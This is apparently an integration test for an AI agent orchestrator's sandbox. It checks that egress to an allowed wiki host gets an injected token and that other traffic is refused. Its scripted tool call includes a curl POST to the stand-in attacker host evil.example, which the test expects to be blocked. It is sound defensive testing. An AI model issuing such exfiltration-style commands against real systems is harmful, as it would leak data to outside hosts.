#!/usr/bin/env python3
"""A run's egress end to end (issue 7, Logs): a command in a sandbox whose profile allows
wiki.local (with a token injected) fetches a page through sandboxd's relay and credproxy,
and tries a host its profile does not name; `orchctl logs RUN` shows both as [egress] lines
(`GET wiki.local:PORT/snippets/durability → 200 (auth injected: Authorization)`, `refused
POST evil.example/ (...)`), the upstream saw the token, the sandbox did not, and the token is
nowhere in the orchestrator's journal or log. Restarting credproxy and the orchestrator
afterwards repeats no line. (Starts sandboxd: run under the ctest lock.)"""
import http.server
import os
import shutil
import sys
import threading

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../lib"))
from ahptest import Stack, check, run_test, wait_for

TOKEN = "wk-7Hq2pZ9xRt4LmN8vB3cY"
SEEN = []


class Wiki(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_GET(self):
        SEEN.append(self.headers.get("Authorization"))
        ok = self.headers.get("Authorization") == f"Bearer {TOKEN}"
        body = b"durability: fsync before ack" if ok else b"who are you?"
        self.send_response(200 if ok else 401)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def scenario(port):
    return f"""
steps:
  - tool_calls:
      - name: exec
        arguments:
          command: "curl -s -w ' %{{http_code}}' http://wiki.local:{port}/snippets/durability;
            echo; curl -s -o /dev/null -w '%{{http_code}}' -X POST -d x http://evil.example/;
            echo; env | grep -c {TOKEN[:8]} || true"
  - content: "{{{{result.0.stdout}}}}"
"""


def main(args):
    if os.geteuid() != 0:
        print("needs root for sandboxd; skipped")
        return 77
    if not os.path.exists(os.path.join(args.bin, "credproxy")):
        print("credproxy is not built; skipped")
        return 77
    if shutil.which("curl") is None:
        print("no curl on this host (the sandbox uses the host's tools); skipped")
        return 77
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Wiki)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    port = srv.server_address[1]
    try:
        with Stack(args, "egressreal", sandbox=True) as st:
            body(st, port)
    finally:
        srv.shutdown()
    return 0


def body(st, port):
    st.demo_skill()
    st.write_scenario("wiki", scenario(port))
    st.write_profile("net", "wiki", tools=("exec",), extra=(
        "sandbox:\n  network: proxy\n"
        "egress:\n"
        f"  - host: wiki.local:{port}\n"
        "    paths: [\"/snippets/\"]\n"
        "    inject: { Authorization: \"Bearer {{secret:wiki-token}}\" }\n"))
    st.write_secret("wiki-token", TOKEN)
    st.write("etc/credproxy-hosts", "127.0.0.1 wiki.local\n")
    st.write_credproxy_conf(hosts_file=st.path("etc/credproxy-hosts"))
    st.start()

    p = st.orchctl("submit", "net", "read the durability snippet", timeout=120)
    check(p.returncode == 0, f"exit {p.returncode}\n{p.stdout}\n{p.stderr}")
    check("durability: fsync before ack 200" in p.stdout, f"the page did not arrive:\n{p.stdout}")
    check(SEEN == [f"Bearer {TOKEN}"], f"the upstream saw {SEEN}")
    run = st.orchctl_json("list", "--limit", "1")[0]["runs"][0]["run_id"]

    got = st.wait_egress(run, 2, timeout=30)
    texts = [e["text"] for e in got]
    check(texts[0] == f"[egress] GET wiki.local:{port}/snippets/durability → 200 "
          "(auth injected: Authorization)", f"{texts}")
    check(texts[1].startswith("[egress] refused POST evil.example/ (") and
          "profile net" in texts[1], f"{texts}")
    check(len(texts) == 2, f"{texts}")
    out = st.orchctl("logs", run, expect=0).stdout
    check(texts[0] + "\n" in out and texts[1] + "\n" in out, out)

    # The same requests in credproxy's own log line, by run.
    lines = st.egress_log(run=run)
    check([(e["method"], e["decision"], e["injected"]) for e in lines] ==
          [("GET", "allow", "Authorization"), ("POST", "deny", "")], f"{lines}")

    # The token: at the upstream only.
    res = st.status(run)["result"]
    check(res.strip().endswith("0"), f"the sandbox's environment holds the token: {res!r}")
    for rel in ("state/orchestrator/orchestrator.db", "state/orchestrator/orchestrator.db-wal",
                "log/orchestrator.log", "log/credproxy.log", "log/sandboxd.log",
                "state/credproxy/egress.db", "state/credproxy/egress.db-wal"):
        path = st.path(rel)
        if os.path.exists(path):
            with open(path, "rb") as f:
                check(TOKEN.encode() not in f.read(), f"the token is in {rel}")

    # Restarts of both daemons repeat nothing.
    st.restart("credproxy")
    st.restart("orchestrator")
    wait_for(lambda: st.db_rows("SELECT done FROM egress_cursors WHERE run_id = ?", (run,)) ==
             [(1,)], 30, "the run's egress cursor to close")
    check(len(st.egress_events(run)) == 2, f"{[e['text'] for e in st.egress_events(run)]}")


run_test(main)
